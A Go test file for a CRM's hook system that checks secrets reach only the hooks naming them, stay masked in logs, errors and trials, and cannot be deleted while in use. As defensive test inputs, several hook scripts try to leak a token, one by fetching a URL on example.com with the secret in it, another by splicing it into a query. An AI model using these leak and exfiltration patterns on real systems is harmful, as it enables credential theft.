package httpapi_test

import (
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/tenon-crm/tenon/internal/hook"
)

// A hook gets the secrets that its document names and no other, and none of them
// stays behind: not in its log, nor in what it refuses or fails with.
func TestSecretsOfHooks(t *testing.T) {
	k := world(t, hookedDeals()...)
	_, sales := k.Person("sales", "", "sales")
	const value = `tok"en-7f3a9c`
	k.Call(k.Admin, "PUT", "/api/v1/secrets/erp", m{"value": value}).Want(204)
	k.Call(k.Admin, "PUT", "/api/v1/secrets/other", m{"value": "elsewhere"}).Want(204)
	heard := ""
	server := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { heard = r.Header.Get("Authorization") }))
	t.Cleanup(server.Close)
	named := m{"secrets": []string{"erp", "gone"}, "hosts": []string{"127.0.0.1"}}
	runs := func() []hook.Run {
		t.Helper()
		list, err := k.Tenon.Hooks.Runs(t.Context(), hook.RunsRequest{Hook: "h"})
		if err != nil {
			t.Fatal(err)
		}
		return list
	}
	write := func(source string) string {
		t.Helper()
		k.Define(hookDoc("h", "deal", "before_create", source, named))
		return k.Call(sales, "POST", dealsPath, m{"name": "a"}).Raw
	}

	write(`http.fetch("` + server.URL + `", {headers: {Authorization: "Bearer " + secrets.get("erp")}})`)
	if heard != "Bearer "+value {
		t.Errorf("the server heard %q", heard)
	}
	for source, want := range map[string]string{
		`secrets.get("other")`: "hook_secret", `secrets.get("gone")`: "hook_secret_missing", `secrets.get()`: "hook_secret", `secrets.get({toString: () => "erp"})`: "hook_argument", `secrets.get("ERP")`: "hook_secret",
	} {
		if raw := write(`try { ` + source + `; ctx.fail("given") } catch (e) { ctx.fail(e.code) }`); !strings.Contains(raw, `"message":"`+want+`"`) {
			t.Errorf("%s: %s", source, raw)
		}
	}
	for name, source := range map[string]string{
		"a log":                `const s = secrets.get("erp"); ctx.log(s, {s}, [s], "x".repeat(490) + s); ctx.fail("no")`,
		"a refusal":            `ctx.fail("no " + secrets.get("erp"))`,
		"the field of one":     `ctx.fail("no", secrets.get("erp"))`,
		"an error":             `throw new Error("no " + secrets.get("erp"))`,
		"a value thrown":       `throw secrets.get("erp")`,
		"a name":               `const o = {[secrets.get("erp")]() { throw 1 }}; for (const k in o) o[k]()`,
		"a field that is none": `ctx.set(secrets.get("erp"), 1)`,
		"an address":           `http.fetch("http://" + secrets.get("erp").slice(7) + ".example.com/?" + secrets.get("erp"))`,
		"another's question":   `crm.count("deal", secrets.get("erp"))`,
	} {
		if raw := write(source); strings.Contains(raw, "7f3a9c") || !strings.Contains(raw, "hook_") {
			if name != "an address" { // a part of one is not taken for it
				t.Errorf("%s tells: %s", name, raw)
			}
		}
		for _, r := range runs() {
			if strings.Contains(strings.Join(r.Log, "\n")+r.Error, value) || strings.Contains(strings.Join(r.Log, "\n"), "tok") {
				t.Errorf("%s is kept: %q %q", name, r.Log, r.Error)
			}
		}
	}
	trial := k.Call(k.Admin, "POST", "/api/v1/hooks:try", m{"hook": hookDoc("h", "deal", "before_create", `ctx.log(secrets.get("erp")); crm.count("deal", "record.name == '" + secrets.get("erp").replace('"', "") + "'"); ctx.fail(secrets.get("erp"))`, named), "event": "before_create", "changes": m{"name": "a"}})
	if trial.Status != 200 || strings.Contains(trial.Raw, "7f3a9c\"") || !strings.Contains(trial.Raw, "•••") {
		t.Errorf("a trial: %s", trial.Raw)
	}
}

// A secret says what uses it, and is not taken away from that unasked.
func TestSecretsInUse(t *testing.T) {
	k := world(t, hookedDeals()...)
	for _, name := range []string{"erp", "mail", "unused"} {
		k.Call(k.Admin, "PUT", "/api/v1/secrets/"+name, m{"value": "x-" + name}).Want(204)
	}
	k.Define(hookDoc("h", "deal", "before_create", "return 1", m{"secrets": []string{"erp", "mail"}, "label": m{"en": "Credit", "zh": "信用"}}),
		m{"kind": "webhook", "key": "w", "label": m{"en": "To ERP"}, "object": "deal", "events": []string{"create"}, "role": "sales", "url": "https://example.com/", "headers": m{"Authorization": "Bearer {{erp}}"}})
	list := k.Call(k.Admin, "GET", "/api/v1/secrets", nil).Want(200)
	if list.Text("items", 0, "uses", 0, "key") != "h" || list.Text("items", 0, "uses", 1, "kind") != "webhook" || list.Text("items", 1, "uses", 0, "label", "en") != "Credit" || strings.Contains(list.Raw, "x-erp") {
		t.Error(list.Raw)
	}
	if res := k.Call(k.Admin, "DELETE", "/api/v1/secrets/erp", nil).Code(409, "secret_in_use"); !strings.Contains(res.Text("message"), "Credit") && !strings.Contains(res.Text("message"), "信用") || res.Text("data", "uses", 1, "key") != "w" {
		t.Error(res.Raw)
	}
	k.Call(k.Admin, "DELETE", "/api/v1/secrets/erp?confirm=mail", nil).Code(409, "secret_in_use")
	k.Call(k.Admin, "DELETE", "/api/v1/secrets/erp?confirm=erp", nil).Want(204)
	k.Call(k.Admin, "DELETE", "/api/v1/secrets/unused", nil).Want(204)
}
